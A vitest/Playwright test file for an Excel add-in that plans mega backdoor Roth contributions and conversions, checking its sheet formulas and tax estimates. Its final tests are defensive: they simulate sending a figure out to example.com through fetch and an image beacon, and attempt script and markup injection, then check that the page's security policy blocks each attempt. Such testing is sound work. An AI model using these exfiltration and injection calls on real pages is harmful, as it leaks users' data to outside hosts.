import { afterAll, afterEach, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { addressOf } from "../client/host/book/rectangle";
import { openExcelPage, type ExcelPage } from "../support/excelPage";
import { startPages, type Pages } from "../support/page";
import { patient, personAt, type Person } from "../support/pane";

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

let pages: Pages;
let excel: ExcelPage;
let person: Person;

beforeAll(async () => {
  pages = await startPages();
});
afterAll(() => pages.close());

beforeEach(async () => {
  excel = await openExcelPage(pages.browser, pages.origin);
  person = personAt(excel.page, excel.page.locator("#pane"));
});
afterEach(() => excel.close());

test("starts under its own policy, asks only its server and Microsoft's library, and writes nothing", async () => {
  await person.hears(/^Still needed: Year/);
  expect(excel.faults).toEqual([]);
  expect(excel.foreignRequests).toEqual([]);
  expect(excel.officeScripts).toContain("office.js");
  const writes = excel.host.requests.flat().filter(({ ActionType }) => ActionType === 4);
  expect(writes).toEqual([]);
  expect(excel.host.book.sheets.map(({ name }) => name)).toEqual(["Sheet1"]);
});

test("builds the client sheet in the workbook, and follows what is typed there", async () => {
  await person.fill("Client", "Okafor");
  await person.fill("Year", "2026");
  await person.goTo("3. Pay & contributions");
  await person.fill("Deferrals for the year", "24,500");
  await person.fill("Employer money for the year", "14,000");
  await person.hears(/\$33,500$/); // 72,000 − 24,500 − 14,000
  await person.press("Create client sheet");
  await person.hears("The sheet Okafor 2026 is ready.");

  const { book } = excel.host;
  const sheet = book.sheet("Okafor 2026");
  const place = (name: string) => {
    const cells = [...sheet.names.values()].find((one) => one.name === name)?.cells;
    if (cells === undefined) throw new Error(`No cell named ${name}`);
    return cells;
  };
  const headroom = place("headroom");
  expect(sheet.content(headroom.top, headroom.left).formula).toMatch(/^=MBDR\.MEGA_HEADROOM\(/);

  book.enter(sheet, addressOf(place("other_employer")), "20000", 20_000);
  await person.hears(/\$27,500$/); // 72,000 − 24,500 − 20,000
  expect(excel.faults).toEqual([]);
  expect(excel.foreignRequests).toEqual([]);
});

test("takes a conversion from the keyboard into named cells, with what it needs fetched under the page's policy", async () => {
  const fetched: string[] = [];
  excel.page.on("request", (request) => fetched.push(new URL(request.url()).pathname));
  await person.fill("Client", "Okafor");
  await person.fill("Year", "2026");
  expect(fetched.filter((path) => path.includes("pane-"))).toEqual([]);
  await person.goTo("4. Household");
  await person.pick("Filing status", "Married filing jointly");
  await person.fill("Ordinary income before the conversion", "450,000");
  await person.pick("State", "California");
  expect(fetched.some((path) => path.includes("pane-"))).toBe(true);
  await person.goTo("5. Conversion");
  await person.fill("Balance of the after-tax account", "50,000");
  await person.fill("After-tax contributions in it", "40,000");
  await person.press("Create client sheet");
  await person.hears("The sheet Okafor 2026 is ready.");
  await person.fill("Amount converted to Roth", "50,000");
  await person.hears(/estimate: \$4,130$/); // 32% and 9.3% of 10,000

  const { book } = excel.host;
  const sheet = book.sheet("Okafor 2026");
  const cell = (name: string) => {
    const cells = [...sheet.names.values()].find((one) => one.name === name)?.cells;
    if (cells === undefined) throw new Error(`No cell named ${name}`);
    return { at: addressOf(cells), ...sheet.content(cells.top, cells.left) };
  };
  const kept = ["filing_status", "income", "state", "after_tax_balance", "after_tax_basis", "converted"];
  const held = ["MFJ", 450_000, "CA", 50_000, 40_000, 50_000];
  await expect.poll(() => kept.map((name) => cell(name).value), patient).toEqual(held);
  expect(cell("conversion_tax").formula).toMatch(/MBDR\.ROTH_CONVERSION_TAX\(C7,.*,B\d+:C\d+\)\)$/);

  book.enter(sheet, cell("state").at, "AZ", "AZ");
  await person.hears(/estimate: \$3,450$/);
  book.enter(sheet, cell("state").at, "NV", "NV");
  await person.hears(/estimate: \$3,200$/);
  expect(excel.faults).toEqual([]);
  expect(excel.foreignRequests).toEqual([]);
});

test("takes payroll, testing and worth from the keyboard into named cells of live formulas", async () => {
  await person.fill("Client", "Okafor");
  await person.fill("Year", "2026");
  await person.goTo("2. Plan");
  await person.fill("Match formula", "50% to 6%");
  await person.goTo("3. Pay & contributions");
  await person.fill("Pay for the year", "260,000");
  await person.fill("Deferrals for the year", "24,500");
  await person.hears(/\$39,700$/); // 72,000 − 24,500 − 7,800
  await person.unfold("Payroll election, pay date by pay date");
  await person.fill("Pay dates in a full year", "26");
  const pane = excel.page.locator("#pane");
  await expect
    .poll(() => pane.innerText(), patient)
    .toContain("Set after-tax to 15% from pay 1, 16% from pay 20.");
  await person.press("Create client sheet");
  await person.hears("The sheet Okafor 2026 is ready.");
  await person.goTo("7. Results");
  const assumptions = {
    contribution: ["Contribution to look at", "30,000", 30_000],
    years_ahead: ["Years until it is paid out", "20", 20],
    yearly_return: ["Return a year", "7%", 0.07],
    dividend_yield: ["Dividends in it", "2%", 0.02],
    dividend_tax: ["Tax on dividends", "18.8%", 0.188],
    gains_tax: ["Tax on gains", "18.8%", 0.188],
  } as const;
  for (const [label, typed] of Object.values(assumptions)) await person.fill(label, typed);
  await expect.poll(() => pane.innerText(), patient).toContain("the Roth ends 18,989.16 ahead");

  const { book } = excel.host;
  const sheet = book.sheet("Okafor 2026");
  const cell = (name: string) => {
    const cells = [...sheet.names.values()].find((one) => one.name === name)?.cells;
    if (cells === undefined) throw new Error(`No cell named ${name}`);
    return { at: addressOf(cells), ...sheet.content(cells.top, cells.left) };
  };
  const held = () => Object.keys(assumptions).map((name) => cell(name).value);
  await expect.poll(held, patient).toEqual(Object.values(assumptions).map(([, , value]) => value));
  expect(cell("pay_periods").value).toBe(26);
  expect(cell("advantage").formula).toMatch(/MBDR\.MEGA_ADVANTAGE\(/);
  expect(cell("election").formula).toMatch(/MATCH\("Payroll",/);
  expect(cell("pitfalls_count").formula).toMatch(/COUNTIF\(/);
  book.enter(sheet, cell("gains_tax").at, "0", 0);
  await expect.poll(() => pane.innerText(), patient).not.toContain("18,989.16");
  expect(excel.faults).toEqual([]);
  expect(excel.foreignRequests).toEqual([]);
});

test("says so where a part of the pane cannot be fetched, tries again when asked, and keeps the answers", async () => {
  const { page } = excel;
  const pane = page.locator("#pane");
  await person.fill("Client", "Okafor");
  await page.route("**/pane-*.js", (route) => route.abort());
  await person.goTo("4. Household");
  const sentence = "This part of the pane could not be fetched";
  await expect.poll(() => pane.innerText(), patient).toContain(sentence);
  await person.press("Try again");
  await expect.poll(() => pane.innerText(), patient).toContain(sentence);
  await page.unroute("**/pane-*.js");
  await person.press("Try again");
  await person.fill("Ordinary income before the conversion", "450,000");
  await person.goTo("1. Client");
  expect(await page.getByRole("textbox", { name: "Client", exact: true }).inputValue()).toBe("Okafor");
});

test("a page that would send something out is stopped, and it is seen", async () => {
  const reached = await excel.page.evaluate(() =>
    fetch("https://example.com/?room=33500").then(
      () => true,
      () => false,
    ),
  );
  expect(reached).toBe(false);
  await excel.page.evaluate(() => {
    new Image().src = "https://example.com/room.gif";
  });
  // Twice: by the policy of the answer's head, and by the one that the page carries itself.
  const breaches = (rule: string) => excel.faults.filter((fault) => fault.includes(rule));
  await expect.poll(() => breaches("connect-src")).toHaveLength(2);
  await expect.poll(() => breaches("img-src")).toHaveLength(2);
});

test("text becomes no script and no markup", async () => {
  const outcomes = await excel.page.evaluate(() =>
    [
      () => (document.body.innerHTML = "<b>text</b>"),
      () => document.head.append(Object.assign(document.createElement("script"), { textContent: "1" })),
      () => (document.createElement("script").src = "https://example.com/x.js"),
    ].map((attempt) => {
      try {
        attempt();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    }),
  );
  expect(outcomes).toEqual(["TypeError", "TypeError", "TypeError"]);
});

test("a request beyond its server and Microsoft's library would be listed", async () => {
  await excel.page.route("https://example.com/", (route) => route.abort());
  await excel.page.evaluate(() => void window.open("https://example.com/", "_self"));
  await expect.poll(() => excel.foreignRequests, { timeout: 15_000 }).toEqual(["https://example.com/"]);
});
